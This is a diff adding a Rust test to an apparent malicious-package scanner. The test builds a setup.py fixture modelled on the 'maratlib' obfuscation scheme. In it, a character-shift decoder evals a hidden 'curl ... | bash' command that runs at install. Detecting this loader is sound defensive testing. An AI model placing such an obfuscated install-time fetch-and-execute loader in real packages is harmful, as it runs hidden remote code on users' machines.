@@ -629,3 +629,30 @@ fn a_command_fetched_and_handed_to_a_local_runner_is_malicious() {
     ]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn an_l111_obfuscated_command_run_at_install_is_decoded_and_malicious() {
+    // maratlib: `os.system(l111_(u"<shifted text>"))`, the decoder evals a
+    // string literal. Encoded here with the scheme's 2048 + (i + key) % 7.
+    let plain = "u\"curl -s http://127.0.0.1:9/x.sh | bash\"";
+    let enc: String = plain
+        .chars()
+        .enumerate()
+        .map(|(i, c)| {
+            char::from_u32(u32::from(c) + 2048 + (u32::try_from(i).unwrap() + 98) % 7).unwrap()
+        })
+        .chain(std::iter::once('b'))
+        .collect();
+    let setup = format!(
+        "import sys\ndef l111_(s):\n    k = ord(s[-1])\n    b = s[:-1]\n    return eval(''.join(chr(ord(c) - 2048 - (i + k) % 7) for i, c in enumerate(b)))\nfrom setuptools import setup\n__import__('os').system(l111_(u\"{enc}\"))\nsetup(name='pkg')\n"
+    );
+    let r = sdist(&[("setup.py", &setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.layer.as_deref() == Some("l111")),
+        "{:#?}",
+        r.findings
+    );
+}
